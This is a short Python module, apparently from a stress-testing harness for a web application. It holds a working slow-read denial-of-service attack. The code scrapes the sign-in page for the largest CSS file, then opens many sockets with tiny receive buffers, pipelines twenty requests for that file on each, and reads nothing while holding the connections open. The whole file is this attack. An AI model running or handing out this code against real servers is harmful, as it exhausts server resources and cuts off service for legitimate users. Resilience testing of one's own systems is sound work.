"""Many connections that ask for a large file again and again and read nothing of it."""

from __future__ import annotations

import http.client
import re
import socket
import time
from collections import Counter
from contextlib import ExitStack

PATIENCE = 10
ASKED = 20
"""How often in one go: more than the buffers between the two can hold."""
SMALL = 4096


def stylesheet(host: str, port: int) -> str:
    """The path of the largest file that anybody may ask for."""
    connection = http.client.HTTPConnection(host, port, timeout=PATIENCE)
    connection.request("GET", "/sign-in")
    page = connection.getresponse().read().decode()
    connection.close()
    found = re.search(r'/static/[^"]+/vendor/tabler-[^"]+\.css', page)
    assert found, page
    return found[0]


def attack(host: str, port: int, seconds: float, connections: int) -> Counter[int]:
    """Keeps so many connections open for so long; nothing is read, so no status is known."""
    request = f"GET {stylesheet(host, port)} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    end = time.monotonic() + seconds
    with ExitStack() as opened:
        for _ in range(connections):
            one = opened.enter_context(socket.socket())
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL)
            one.settimeout(PATIENCE)
            one.connect((host, port))
            one.sendall(ASKED * request)
        time.sleep(max(0.0, end - time.monotonic()))
    return Counter()
